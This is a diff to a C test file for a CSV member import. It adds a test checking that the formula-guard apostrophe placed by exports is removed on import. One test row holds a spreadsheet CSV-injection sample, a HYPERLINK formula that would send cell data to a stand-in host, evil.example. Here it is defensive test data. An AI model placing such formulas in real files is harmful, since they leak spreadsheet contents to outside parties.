@@ -3,8 +3,9 @@
  * email column, attribute names from header cells, ';' and tab files,
  * Latin-1 and Windows-1252, a file that is not UTF-8 refused with one
  * error, rejected rows with their reasons and lines, unsubscribes that
- * stick, a second import that changes nothing, a dry run, and a file
- * larger than the reader thread's batches. */
+ * stick, a second import that changes nothing, a dry run, a file larger
+ * than the reader thread's batches, and the export's apostrophe before a
+ * formula taken off. */
 #include "base/common.h"
 #include "base/strbuf.h"
 #include "core/address.h"
@@ -402,6 +403,43 @@ static void test_large(void)
 	store_close(st);
 }
 
+/*
+ * The apostrophe an export puts before a field a spreadsheet would run as
+ * a formula (core/csvio.h) is taken off, in the email column too: a local
+ * part may start with '-', '+' or '='.
+ */
+static void test_formula_guard(void)
+{
+	struct store *st = open_db("formula.db");
+	struct run r = { .rejects = STRBUF_INIT };
+	struct strbuf v = STRBUF_INIT;
+
+	import(st, "email,name,phone,note\n"
+		   "'-dash@example.org,\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A3,\"\"Click\"\")\",'+33 1 23,''=x\n"
+		   "'=eq@example.org,'@Ann,'quoted',\"'\t-tab\"\n", "members", &r);
+	ok(r.res == STORE_IMPORT_DONE && r.n.added == 2 && !r.n.rejected,
+	   "a file written with the formula guard imports: %s", r.rejects.buf);
+	ok(store_member_status(st, "-dash@example.org", "members") == STORE_ACTIVE &&
+	   store_member_status(st, "=eq@example.org", "members") == STORE_ACTIVE,
+	   "  the email without its apostrophe");
+	ok(member_field(st, "members", "-dash@example.org", NULL, &v) &&
+	   !strcmp(v.buf, "=HYPERLINK(\"https://evil.example/?\"&A3,\"Click\")"),
+	   "  the name as it was typed: %s", v.buf);
+	ok(member_field(st, "members", "-dash@example.org", "phone", &v) && !strcmp(v.buf, "+33 1 23"),
+	   "  an attribute too");
+	ok(member_field(st, "members", "-dash@example.org", "note", &v) && !strcmp(v.buf, "'=x"),
+	   "  exactly one apostrophe off: ''=x is '=x");
+	ok(member_field(st, "members", "=eq@example.org", NULL, &v) && !strcmp(v.buf, "@Ann"),
+	   "  '@Ann is @Ann");
+	ok(member_field(st, "members", "=eq@example.org", "phone", &v) && !strcmp(v.buf, "'quoted'"),
+	   "  an apostrophe before anything else is data");
+	ok(member_field(st, "members", "=eq@example.org", "note", &v) && !strcmp(v.buf, "\t-tab"),
+	   "  '<tab> loses its apostrophe");
+	strbuf_release(&v);
+	strbuf_release(&r.rejects);
+	store_close(st);
+}
+
 int main(void)
 {
 	if (!mkdtemp(dir)) {
@@ -416,6 +454,7 @@ int main(void)
 	test_rejects();
 	test_sticky_and_again();
 	test_large();
+	test_formula_guard();
 	set_report_routine(NULL);
 	if (!tap_failed) {
 		struct strbuf cmd = STRBUF_INIT;
